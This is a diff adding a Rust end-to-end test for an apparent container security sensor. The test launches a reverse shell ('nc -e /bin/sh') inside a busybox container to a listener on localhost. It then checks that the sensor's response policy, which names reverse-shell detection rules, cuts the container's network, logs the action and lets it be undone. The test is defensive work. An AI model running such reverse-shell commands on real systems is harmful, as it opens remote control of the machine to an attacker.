@@ -1,0 +1,201 @@
+//! Automated response end to end (root, runc, the real sensor; CI runs as root): a busybox workload is
+//! learned and put in protect mode; `kestrel detect --live --respond` runs with a policy that isolates
+//! reverse shells; a reverse shell (`nc -e /bin/sh`) to a listener on the host starts in a container. The
+//! shell's connection must go dead, the container must lose its network while the host keeps its own, the
+//! audit log must say what was done, and `kestrel respond undo` must give the network back.
+
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+fn kestrel() -> PathBuf {
+    assert_cmd::cargo::cargo_bin("kestrel")
+}
+
+fn bash(dir: &Path, script: &str) {
+    let lib = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../lab/lib.sh");
+    let log = dir.join("bash.log");
+    let ok = Command::new("bash")
+        .arg("-c")
+        .arg(format!("set -e; source {}; {script}", lib.display()))
+        .env("LAB_DIR", dir.join("lab"))
+        .env("KESTREL", kestrel())
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(std::fs::File::create(&log).unwrap())
+        .status()
+        .unwrap()
+        .success();
+    assert!(ok, "{script}: {}", std::fs::read_to_string(&log).unwrap_or_default());
+}
+
+struct Detect(Child);
+impl Drop for Detect {
+    fn drop(&mut self) {
+        // SAFETY: signalling our own child.
+        unsafe { libc::kill(self.0.id() as i32, libc::SIGINT) };
+        let _ = self.0.wait();
+    }
+}
+
+/// Whether `runc exec` of an `nc` to the port gets through from the container.
+fn container_reaches(name: &str, port: u16, hits: &AtomicUsize) -> bool {
+    let before = hits.load(Ordering::SeqCst);
+    let _ = Command::new("runc")
+        .args(["exec", name, "/bin/sh", "-c", &format!("echo hi | nc -w 1 127.0.0.1 {port}")])
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status();
+    std::thread::sleep(Duration::from_millis(200));
+    hits.load(Ordering::SeqCst) > before
+}
+
+#[test]
+fn a_reverse_shell_in_protect_mode_is_cut_off_and_undo_restores_the_network() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    let lab = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../lab");
+    // Learn the workload and put it in protect mode.
+    let learn = d.join("learn.jsonl.zst");
+    bash(d, &format!("bash {}/normal.sh busybox 2 8 {}", lab.display(), learn.display()));
+    let profiles = d.join("profiles");
+    let ok = Command::new(kestrel())
+        .args(["learn", "-q", "--workload", "busybox", "--mode", "protect", "--profiles"])
+        .arg(&profiles)
+        .arg(&learn)
+        .status()
+        .unwrap()
+        .success();
+    assert!(ok);
+    let policy = d.join("policy.yaml");
+    std::fs::write(
+        &policy,
+        "dry_run: false\nrules:\n  - name: cut reverse shells\n    when: {rules: [\"Reverse shell\", \"Network tool running a program\"]}\n    actions: [isolate]\n",
+    )
+    .unwrap();
+    let audit = d.join("audit.jsonl");
+    let log = d.join("detect.log");
+    let child = Command::new(kestrel())
+        .args(["detect", "--live", "--runc-parent", "kestrel-lab", "--workload", "busybox", "-f", "json", "--profiles"])
+        .arg(&profiles)
+        .arg("--respond")
+        .arg(&policy)
+        .arg("--audit")
+        .arg(&audit)
+        .stdout(std::fs::File::create(d.join("alerts.jsonl")).unwrap())
+        .stderr(std::fs::File::create(&log).unwrap())
+        .spawn()
+        .unwrap();
+    let _detect = Detect(child);
+    let t0 = Instant::now();
+    while !std::fs::read_to_string(&log).unwrap_or_default().contains("watching") {
+        assert!(t0.elapsed() < Duration::from_secs(20), "{}", std::fs::read_to_string(&log).unwrap_or_default());
+        std::thread::sleep(Duration::from_millis(100));
+    }
+
+    // The attacker's listener: it reads what the shell answers to `echo alive` every 100 ms.
+    let attacker = TcpListener::bind("127.0.0.1:0").unwrap();
+    let attacker_port = attacker.local_addr().unwrap().port();
+    let answers = Arc::new(AtomicUsize::new(0));
+    let seen = answers.clone();
+    std::thread::spawn(move || {
+        let (s, _) = attacker.accept().unwrap();
+        let mut w = s.try_clone().unwrap();
+        std::thread::spawn(move || loop {
+            if w.write_all(b"echo alive\n").is_err() {
+                break;
+            }
+            std::thread::sleep(Duration::from_millis(100));
+        });
+        for line in BufReader::new(s).lines() {
+            match line {
+                Ok(l) if l.contains("alive") => {
+                    seen.fetch_add(1, Ordering::SeqCst);
+                }
+                Ok(_) => {}
+                Err(_) => break,
+            }
+        }
+    });
+    // A probe listener: can the container (or the host) reach the host at all?
+    let probe = TcpListener::bind("127.0.0.1:0").unwrap();
+    let probe_port = probe.local_addr().unwrap().port();
+    let hits = Arc::new(AtomicUsize::new(0));
+    let h = hits.clone();
+    std::thread::spawn(move || {
+        for s in probe.incoming().flatten() {
+            h.fetch_add(1, Ordering::SeqCst);
+            let mut s = s;
+            let _ = s.set_read_timeout(Some(Duration::from_millis(100)));
+            let _ = s.read(&mut [0u8; 16]);
+        }
+    });
+
+    let name = format!("respond-e2e-{}", std::process::id());
+    bash(d, &format!("make_bundle {name} busybox; start {name}"));
+    struct Stop(PathBuf, String);
+    impl Drop for Stop {
+        fn drop(&mut self) {
+            let _ = Command::new("bash")
+                .arg("-c")
+                .arg(format!("source {}; stop {}", self.0.display(), self.1))
+                .stdout(Stdio::null())
+                .stderr(Stdio::null())
+                .status();
+        }
+    }
+    let _stop = Stop(lab.join("lib.sh"), name.clone());
+    assert!(container_reaches(&name, probe_port, &hits), "the container cannot reach the host before the attack");
+
+    // The reverse shell.
+    Command::new("runc")
+        .args(["exec", "-d", &name, "/bin/nc", "127.0.0.1", &attacker_port.to_string(), "-e", "/bin/sh"])
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .unwrap();
+    // The audit log records the isolation, verified.
+    let t0 = Instant::now();
+    let acted = loop {
+        let text = std::fs::read_to_string(&audit).unwrap_or_default();
+        if let Some(l) = text.lines().find(|l| l.contains("\"outcome\":\"acted\"")) {
+            break serde_json::from_str::<serde_json::Value>(l).unwrap();
+        }
+        assert!(
+            t0.elapsed() < Duration::from_secs(10),
+            "no isolation recorded: {text}\n{}",
+            std::fs::read_to_string(&log).unwrap_or_default()
+        );
+        std::thread::sleep(Duration::from_millis(20));
+    };
+    assert_eq!(acted["action"], "isolate");
+    assert!(acted["detail"].as_str().unwrap().contains("network cut"), "{acted}");
+    assert!(acted["evidence"]["processes"].as_array().is_some_and(|p| !p.is_empty()), "{acted}");
+    let id = acted["id"].as_str().unwrap().to_string();
+
+    // The shell's connection is dead: no answer arrives any more.
+    std::thread::sleep(Duration::from_millis(300));
+    let before = answers.load(Ordering::SeqCst);
+    std::thread::sleep(Duration::from_millis(1500));
+    assert_eq!(answers.load(Ordering::SeqCst), before, "the reverse shell still answers");
+    // The container cannot reach the host; the host itself still can.
+    assert!(!container_reaches(&name, probe_port, &hits), "the isolated container still reaches the host");
+    let before = hits.load(Ordering::SeqCst);
+    TcpStream::connect(("127.0.0.1", probe_port)).unwrap();
+    std::thread::sleep(Duration::from_millis(100));
+    assert!(hits.load(Ordering::SeqCst) > before, "the host lost its network");
+
+    // Undo: the container reaches the host again; the log says so.
+    let out = Command::new(kestrel()).args(["respond", "undo", &id, "--audit"]).arg(&audit).output().unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(container_reaches(&name, probe_port, &hits), "undo did not restore the network");
+    let out = Command::new(kestrel()).args(["respond", "list", "-f", "json", "--audit"]).arg(&audit).output().unwrap();
+    let list: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert!(list.as_array().unwrap().iter().any(|d| d["id"] == id.as_str() && d["outcome"] == "undone"), "{list:#}");
+}
